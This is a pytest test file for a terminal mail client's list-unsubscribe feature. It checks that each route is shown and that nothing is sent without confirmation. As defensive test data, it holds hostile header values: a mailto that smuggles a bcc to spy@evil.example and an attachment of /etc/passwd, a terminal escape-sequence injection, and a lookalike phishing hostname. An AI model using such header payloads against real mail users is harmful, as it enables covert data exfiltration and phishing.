"""Leaving a list: where each way leads is shown, and nothing goes by itself."""

import pytest

from tests.ui.screens import Link, app_over, put, raw_mail, sees, shown, until
from tuimail.model.safe import Safe
from tuimail.protocols.one_click import Answer
from tuimail.services import delivery, unsubscribing

FIELD = (
    b"List-Unsubscribe: <https://list.example/out?u=1>, <mailto:leave@list.example?subject=go>\r\n"
)


@pytest.fixture
def listed(mail, monkeypatch):
    for name in ("DISPLAY", "WAYLAND_DISPLAY", "BROWSER"):
        monkeypatch.delenv(name, raising=False)
    put(mail, "alice", "INBOX", [FIELD + raw_mail("alice", -1)], first_uid=900)
    return mail


async def asked(pilot) -> None:
    await pilot.press("g", "U")
    await sees(pilot, "Leave the list by")


async def test_the_ways_are_shown_with_whom_they_tell(listed):
    app = app_over(listed)
    async with app.run_test(size=(120, 40)) as pilot:
        await asked(pilot)
        assert "a page at list.example" in shown(app)
        assert "a mail to leave@list.example, which you send" in shown(app)
        await pilot.press("escape")
        await until(pilot, lambda: not app.desk.overlays.is_open)
        assert list(delivery.outbox(listed)) == []


async def test_whose_page_it_is_is_seen_however_long_its_name_and_narrow_the_screen(mail):
    host = f"bank.example.{'login-' * 8}x.evil.example"
    field = f"List-Unsubscribe: <https://{host}/{'u' * 200}>\r\n".encode()
    put(mail, "alice", "INBOX", [field + raw_mail("alice", -1)], first_uid=900)
    app = app_over(mail)
    async with app.run_test(size=(80, 24)) as pilot:
        await asked(pilot)
        assert "a page at …" in shown(app)
        assert "x.evil.example " in shown(app)


async def test_all_to_whom_a_mail_goes_are_named_and_a_mail_to_nobody_is_not_offered(mail):
    field = (
        b"List-Unsubscribe: <mailto:>, <mailto:%1b]0;x%07>,\r\n"
        b" <mailto:leave@list.example?bcc=spy@evil.example&attach=/etc/passwd>\r\n"
    )
    put(mail, "alice", "INBOX", [field + raw_mail("alice", -1)], first_uid=900)
    app = app_over(mail)
    async with app.run_test(size=(120, 40)) as pilot:
        await asked(pilot)
        assert "1/1" in shown(app)
        assert "a mail to leave@list.example, spy@evil.example, which you send" in shown(app)
        await pilot.press("enter")
        await until(pilot, lambda: app.desk.compose_pane is not None)
        fields = app.desk.compose_pane.fields
        await until(pilot, lambda: "spy@evil.example" in fields["bcc"].value)
        assert not app.desk.compose_pane.draft.attachments


async def test_a_mail_is_opened_to_be_read_and_sent_by_the_person(listed):
    app = app_over(listed)
    async with app.run_test(size=(120, 40)) as pilot:
        await asked(pilot)
        await pilot.press("down", "enter")
        await until(pilot, lambda: app.desk.compose_pane is not None)
        fields = app.desk.compose_pane.fields
        await until(pilot, lambda: fields["subject"].value == "go")
        assert "leave@list.example" in fields["to"].value
        assert list(delivery.outbox(listed)) == []


@pytest.mark.parametrize("opens_mail", [True, False])
async def test_it_goes_from_the_account_of_the_mail_wherever_the_cursor_is(mail, opens_mail):
    """In the inboxes of all accounts the cursor may be on a mail of another one by then."""
    put(mail, "bob", "INBOX", [FIELD + raw_mail("bob", -1)], first_uid=900)
    app = app_over(mail)
    async with app.run_test(size=(120, 40)) as pilot:
        if opens_mail:
            await pilot.press("enter")
            await until(pilot, lambda: app.desk.reader.mail is not None)
            app.desk.list.move_by(1)
            assert app.desk.list.cursor_row.account == "alice"
        await asked(pilot)
        await pilot.press("down", "enter")
        await until(pilot, lambda: app.desk.compose_pane is not None)
        assert app.desk.compose_pane.draft.account == "bob"


async def test_without_a_browser_the_address_is_said(listed):
    app = app_over(listed)
    async with app.run_test(size=(120, 40)) as pilot:
        await asked(pilot)
        await pilot.press("enter")
        await sees(pilot, "There is no browser here. https://list.example/out?u=1")


async def test_a_mail_of_no_list_says_so(mail):
    app = app_over(mail)
    async with app.run_test(size=(120, 40)) as pilot:
        await pilot.press("g", "U")
        await sees(pilot, "This mail names no safe way to leave its list.")
        assert "body" not in Link.wishes


CLICK = (
    b"Authentication-Results: mx.north.example; dkim=pass header.d=list.example\r\n"
    b"Received: from out.list.example by mx.north.example with ESMTPS;"
    b" Sun, 8 Mar 2026 10:00:00 +0000\r\n"
    b"DKIM-Signature: d=list.example; h=From:List-Unsubscribe:List-Unsubscribe-Post; b=x\r\n"
    b"List-Id: <news.list.example>\r\n"
    b"List-Unsubscribe-Post: List-Unsubscribe=One-Click\r\n" + FIELD
)


@pytest.fixture
def clickable(mail, monkeypatch):
    """A list that is left by one click, and what its host was asked."""
    asked = []

    async def post(url):
        asked.append(url)
        return Answer(200, Safe(""))

    leave = unsubscribing.leave
    monkeypatch.setattr(unsubscribing, "leave", lambda way: leave(way, post))
    put(mail, "alice", "INBOX", [CLICK + raw_mail("alice", -1)], first_uid=900)
    return mail, asked


async def test_one_click_is_asked_about_twice_and_what_became_of_it_is_said(clickable):
    mail, asked_for = clickable
    app = app_over(mail)
    async with app.run_test(size=(120, 40)) as pilot:
        await asked(pilot)
        assert "one click: this program tells list.example" in shown(app)
        assert asked_for == []
        await pilot.press("enter")
        await sees(pilot, "Tell list.example that you leave its list?")
        assert asked_for == []
        await pilot.press("y")
        await sees(pilot, "list.example says that you have left the list.")
        assert asked_for == ["https://list.example/out?u=1"]


@pytest.mark.parametrize("key", ["n", "escape", "enter"])
async def test_without_a_yes_nobody_is_told(clickable, key):
    mail, asked_for = clickable
    app = app_over(mail)
    async with app.run_test(size=(80, 24)) as pilot:
        await asked(pilot)
        await pilot.press("enter")
        await sees(pilot, "Tell list.example that you leave its list?")
        await pilot.press(key, "escape")
        await until(pilot, lambda: not app.desk.overlays.is_open)
        assert asked_for == []


async def test_the_list_stands_in_the_head_and_all_its_mail_is_shown(clickable):
    mail, asked_for = clickable
    app = app_over(mail)
    async with app.run_test(size=(120, 40)) as pilot:
        await pilot.press("enter")
        await sees(pilot, "List   news.list.example")
        await pilot.press("g", "L")
        await until(pilot, lambda: app.desk.session.view.query is not None)
        await until(pilot, lambda: len(app.desk.list.model.ids) == 1)
        assert app.desk.session.view.query_text == 'list:"news.list.example"'
        await pilot.press("q")
        await until(pilot, lambda: app.desk.session.view.query is None)
        assert asked_for == []
